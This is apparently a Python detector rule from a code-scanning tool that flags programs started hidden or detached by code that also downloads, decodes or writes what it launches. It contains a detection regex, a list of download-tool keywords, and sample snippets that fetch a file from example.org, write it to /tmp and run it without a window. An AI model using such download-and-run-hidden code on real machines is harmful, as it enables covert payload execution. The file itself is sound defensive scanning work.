"""A program started so that nobody sees it."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files
from hunkwise.signals.tables.languages import CODE

_HIDDEN = re.compile(
    r"(?i)CREATE_NO_WINDOW|0x0?8000000\b|DETACHED_PROCESS|SW_HIDE|windowsHide\s*:\s*(?:true|!0)|detached\s*:\s*(?:true|!0)"
    r"|-w(?:indowstyle)?[\s\"',]+hidden|-WindowStyle\s+Hidden|pythonw(?:\.exe)?\b"
    r"|\bnohup\b[^\n]{0,200}&|setsid\b[^\n]{0,120}|start\s+/b\b|\.Run\s*\(?[^\n]{0,200},\s*0\s*(?:,\s*(?:true|false))?\s*\)?"
    r"|ShowWindow\s*\([^\n]{0,80},\s*0\s*\)|FILE_ATTRIBUTE_HIDDEN|attrib\s+\+[hs]"
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    found = _HIDDEN.search(view.text)
    if not found or not (view.calls("start") or view.calls("run") or unit.language in ("powershell", "batch", "shell")):
        return
    fetches = view.calls("fetch") or re.search(r"curl|wget|iwr|invoke-webrequest|downloadstring|downloadfile", view.lower)
    decodes = any(call.name not in ("chr", "decompress", "unescape", "decodeURIComponent", "decrypt") for call in view.calls("decode"))
    writes = re.search(r"(?i)temp|appdata|/tmp/|writeFile|open\([^\n]{0,80}[\"']w", view.text)
    what = [word for word, present in (("fetches", fetches), ("decodes", decodes), ("writes what it starts", writes)) if present]
    strength = (
        0.2
        + 0.25 * bool(fetches)
        + 0.25 * bool(decodes)
        + 0.15 * bool(writes)
        - (0.3 if len(view.numbers) > 400 else 0.0)
        - (0.2 if unit.language == "shell" else 0.0)
    )
    if what:
        yield Sighting(
            (view.line(found.start()),), {"call": " ".join(found[0].split())[:60], "what": " and ".join(what)}, strength=max(0.1, strength)
        )


_see = in_files(
    _look,
    "create_no_window",
    "8000000",
    "detached",
    "sw_hide",
    "windowshide",
    "hidden",
    "pythonw",
    "nohup",
    "setsid",
    "start /b",
    ".run",
    "showwindow",
    "attrib",
)


SIGNAL = Signal(
    id="hidden-process",
    title="A program started out of sight",
    kind="payload",
    category="malicious-code",
    severity="high",
    languages=CODE | {"batch"},
    promise=(
        "Tells of programs that are started detached, without a window or output, by code that also fetches, decodes "
        "or writes what it starts."
    ),
    why="What has nothing to hide may be seen to run.",
    quiet="Daemons and tools that start themselves, windows hidden by a program with windows of its own.",
    remedy="Start it in plain sight, or not at all.",
    cause="`{call}` starts a program out of sight, in code that also {what}.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1564.003",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import subprocess\n"
            "import urllib.request\n"
            "\n"
            'code = urllib.request.urlopen("https://example.org/a").read()\n'
            'open("/tmp/a", "wb").write(code)\n'
            'subprocess.Popen(["/tmp/a"], creationflags=subprocess.CREATE_NO_WINDOW)\n',
            line=6,
        ),
        Example(
            "javascript",
            'const { spawn } = require("child_process");\n'
            'const https = require("https");\n'
            'https.get("https://example.org/a", save);\n'
            'fs.writeFileSync("/tmp/a.js", body);\n'
            'spawn("node", ["/tmp/a.js"], { detached: true, stdio: "ignore" }).unref();\n',
            line=5,
        ),
    ),
    stays_quiet=(
        Example("python", 'import subprocess\n\nsubprocess.Popen(["server"], creationflags=subprocess.CREATE_NO_WINDOW)\n'),
        Example("shell", "#!/bin/sh\nnohup ./server > log &\n", path="run.sh"),
    ),
)
